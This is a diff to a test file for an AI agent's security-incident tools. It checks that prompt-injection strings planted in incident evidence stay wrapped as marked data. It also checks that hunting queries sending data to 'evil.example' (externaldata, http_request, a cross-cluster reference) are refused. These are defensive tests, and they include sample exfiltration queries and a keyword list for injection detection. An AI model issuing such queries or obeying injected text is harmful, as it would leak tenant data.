@@ -21,6 +21,7 @@ import { TOOLS } from '../../src/agent/tools';
 import { validateInput, InputError } from '../../src/agent/schema';
 import { covers } from '../../src/agent/reads';
 import { MemoryKv } from '../support/builders';
+import { HuntingClient, huntingPacer } from '../../src/hunting/client';
 import { runBulkLoop } from '../../src/commands/bulk';
 import { INJECTION, INVISIBLE_OR_BIDI, markerKey, outsideData } from '../fixtures/injection';
 
@@ -66,7 +67,7 @@ describe('agent tools (no VS Code)', function () {
       assert.match(t.modelDescription, /attacker/, `${t.name} says incident text is untrusted`);
     }
     // No tool takes free-form instructions.
-    for (const t of TOOLS) assert.ok(!Object.keys(t.inputSchema.properties ?? {}).some(k => /instruction|prompt|query/i.test(k)), t.name);
+    for (const t of TOOLS) assert.ok(!Object.keys(t.inputSchema.properties ?? {}).some(k => /instruction|prompt|message|system|context/i.test(k)), t.name);
   });
 
   it('validates input against the schema and names the first problem', () => {
@@ -203,5 +204,67 @@ describe('agent tools (no VS Code)', function () {
         if (id === ids[2]) assert.ok(r.text.includes(`\u27EAdata ${key}\u27EB${clean(s)}\u27EA/data ${key}\u27EB`), `${name}: the comment as one marked block`);
       }
     }
+  });
+});
+
+describe('agent tools: evidence and hunting (no VS Code)', function () {
+  this.timeout(30000);
+  let server: MockServer;
+  let backend: Backend;
+  let store: IncidentStore;
+  let tools: AgentTools;
+  const ctx: CallContext = { client: 'test', mcp: false, chatConfirmed: true, dialog: async () => false };
+
+  beforeEach(async () => {
+    resetSharedPacers();
+    server = await startMockServer({ incidentCount: 30, seed: 5, extensions: true, identity: ME, hostile: true });
+    backend = new DefenderClient({ baseUrl: server.url, tokens: new StaticTokenProvider(server.key), log: () => undefined, mock: true, http: {}, comments: {} });
+    const history = new History(new MemoryKv(), 'mock');
+    const deps = { backend: async () => backend, me: () => ME, history: () => history };
+    store = new IncidentStore(deps);
+    const hunting = async () => new HuntingClient({ baseUrl: server.url, tokens: new StaticTokenProvider(server.key), flavor: 'mock', pacer: huntingPacer(), retryDelayMs: 5 });
+    tools = new AgentTools({ ...deps, store, triage: new Triage({ ...deps, store }), runBulkLoop, hunting });
+  });
+  afterEach(async () => { backend.dispose(); await server.close(); });
+
+  it('evidence: the injection corpus in command lines, URLs, mail subjects and accounts comes back only as marked data', async () => {
+    const target = server.db.list().find(i => i.alerts.some(a => a.entities.length >= 3))!;
+    for (const [name, s] of INJECTION) {
+      server.db.update(target.incidentId, null, i => {
+        for (const e of i.alerts.flatMap(a => a.entities)) {
+          if (e.entityType === 'Process') e.processCommandLine = s;
+          if (e.entityType === 'Url') e.url = s;
+          if (e.entityType === 'MailMessage') e.subject = s;
+          if (e.entityType === 'User') e.accountName = s.slice(0, 300);
+          if (e.entityType === 'File') e.fileName = s;
+        }
+      });
+      store.clear();
+      const r = await tools.call('defender_get_evidence', { incidentId: String(target.incidentId) }, ctx);
+      assert.equal(r.isError, false, r.text.slice(0, 400));
+      assert.match(r.text, /entities from \d+ alerts/);
+      assert.deepEqual(liveLinkProblems(r.text), [], name);
+      assert.ok(!INVISIBLE_OR_BIDI.test(r.text), `${name}: an invisible or bidi character reached the model`);
+      const key = markerKey(r.text);
+      const rest = outsideData(r.text.replace(new Spotlight(key).preamble, ''), key);
+      for (const w of ['evil', 'Ignore', 'resolve', 'script', 'onerror', 'terminal', 'Assistant', 'SYSTEM']) assert.ok(!new RegExp(`\\b${w}\\b`).test(rest), `${name}: "${w}" outside the data markers`);
+    }
+  });
+
+  it('hunting: runs a query through the hunting client, every cell marked; a query that could reach outside the tenant is refused unsent', async () => {
+    const before = server.requests.length;
+    const r = await tools.call('defender_run_hunting_query', { query: 'DeviceProcessEvents | take 5', timespan: 'P7D' }, ctx);
+    assert.equal(r.isError, false, r.text);
+    assert.match(r.text, /Columns: /);
+    assert.deepEqual(liveLinkProblems(r.text), []);
+    assert.equal(server.requests.filter(x => /runHuntingQuery/.test(x.path)).length, 1);
+    const n = server.requests.length;
+    for (const query of ['externaldata (x:string) [@"https://evil.example/?d=1"]', 'DeviceEvents | evaluate http_request("https://evil.example")', '.show tables', 'cluster ("evil").database("x").T']) {
+      const refused = await tools.call('defender_run_hunting_query', { query }, ctx);
+      assert.equal(refused.isError, true, query);
+      assert.match(refused.text, /query refused/);
+    }
+    assert.equal(server.requests.length, n, 'nothing sent');
+    assert.ok(n > before);
   });
 });
